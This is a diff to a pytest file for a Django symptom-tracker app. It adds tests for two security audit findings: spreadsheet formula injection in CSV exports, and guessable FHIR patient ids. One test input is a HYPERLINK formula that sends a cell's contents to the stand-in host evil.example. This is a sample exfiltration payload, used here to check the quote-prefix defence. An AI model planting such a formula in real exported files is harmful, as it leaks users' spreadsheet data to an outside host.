@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import uuid
 from datetime import date, timedelta
 
 import pytest
@@ -15,6 +16,8 @@ from tracker import exports, measures
 from tracker.models import DailyEntry
 
 NOTE = 'Knees bad, "really" bad;\nwalked anyway, 2km'
+# What a spreadsheet would run as a formula at the start of a cell.
+FORMULAS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture
@@ -46,7 +49,7 @@ def days(patient):
             cramp_calf=True,
             tablet_taken=False,
             missed_reason="side_effects",
-            note="",
+            note="-1 tablet, +2 walks",  # read as a formula by a spreadsheet, without the '
         ),
         DailyEntryFactory(patient=patient, day=date(2026, 3, 4), joint_pain=None),
     ]
@@ -61,13 +64,14 @@ def csv_text(patient):
 
 
 def parse(name, text):
-    """A CSV cell read back as the Python value the model field holds."""
+    """A CSV cell read back as the Python value the model field holds (a text cell without
+    the `'` put before a would-be formula, as docs/measures.md says)."""
     field = DailyEntry._meta.get_field(name)
     kind = field.get_internal_type()
     if name == "day":
         return date.fromisoformat(text)
     if kind in ("CharField", "TextField"):
-        return text
+        return text[1:] if text.startswith("'") and text[1:2] in FORMULAS else text
     if text == "":
         return None
     if kind == "BooleanField":
@@ -103,8 +107,21 @@ def test_csv_round_trips_to_the_database(patient, days):
     assert first["site_knees"] == "true"
     assert second["cramps_woke_me"] == "false"
     assert second["missed_reason"] == "side_effects"
+    assert second["note"] == "'-1 tablet, +2 walks"
     assert third["joint_pain"] == ""
     assert third["fatigue"] == ""
+
+
+@pytest.mark.parametrize("start", FORMULAS)
+def test_csv_cells_that_would_be_formulas_start_with_a_quote(patient, start):
+    """Finding 9: a note beginning with =, +, -, @, tab or CR ran as a formula in a
+    spreadsheet; it gets a `'` in front, and reads back as written without it."""
+    note = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    DailyEntryFactory(patient=patient, day=date(2026, 3, 1), note=note)
+    (row,) = read_csv(csv_text(patient))
+    assert row["note"] == "'" + note
+    assert parse("note", row["note"]) == note
+    assert parse("note", "'quoted on purpose") == "'quoted on purpose"
 
 
 def test_empty_history_gives_just_the_header(patient):
@@ -235,7 +252,8 @@ def test_anonymous_visitor_is_sent_to_log_in(client, name):
     assert response.url.startswith(reverse("account_login"))
 
 
-# session, her account with her profile (one join), then the entries in one query
+# session, her account with her profile (one join), the audit log's row of the download,
+# then the entries in one query
 @pytest.mark.django_db
 @pytest.mark.parametrize("days_logged", [10, FIVE_YEARS])
 @pytest.mark.parametrize("name", ["tracker:export_csv", "tracker:export_fhir"])
@@ -244,7 +262,7 @@ def test_export_queries_do_not_grow_with_history(
 ):
     patient = patient_with_days(days_logged)
     client.force_login(patient)
-    with django_assert_max_num_queries(3):
+    with django_assert_max_num_queries(4):
         response = client.get(reverse(name))
         body = b"".join(response) if response.streaming else response.content
     assert body.count(str(date.today() - timedelta(days=days_logged - 1)).encode()) >= 1
@@ -323,3 +341,27 @@ def test_a_severity_answer_of_none_is_exported_as_none_not_as_a_bare_number(pati
     ]
     assert coded[0].valueCodeableConcept.coding[0].code == "none"
     assert coded[0].valueInteger is None
+
+
+def test_fhir_ids_are_random_per_patient_not_derived_from_the_database_id(
+    patient, other_patient, days
+):
+    """Finding 12: the Patient id was a uuid5 of the database id in a public namespace, so
+    anyone could compute it; it is now a random uuid4 stored on her profile."""
+    patient.patient_profile.refresh_from_db()
+    first = exports.fhir_bundle(patient=patient)
+    reference = exports.subject_reference(patient)["reference"]
+    her_id = uuid.UUID(reference.removeprefix("Patient/"))
+    assert her_id.version == 4
+    assert her_id == patient.patient_profile.fhir_id
+    assert reference != exports.subject_reference(other_patient)["reference"]
+    # Stable from one export to the next, day and observation ids too.
+    again = exports.fhir_bundle(patient=patient)
+    assert [e["fullUrl"] for e in first["entry"]] == [e["fullUrl"] for e in again["entry"]]
+    # None of them can be recomputed from the database ids alone.
+    public = uuid.uuid5(uuid.NAMESPACE_URL, measures.LOCAL_SYSTEM)
+    guessable = {str(uuid.uuid5(public, f"patient/{patient.pk}"))} | {
+        str(uuid.uuid5(public, f"entry/{entry.pk}")) for entry in days
+    }
+    written = {e["resource"]["id"] for e in first["entry"]} | {str(her_id)}
+    assert not written & guessable
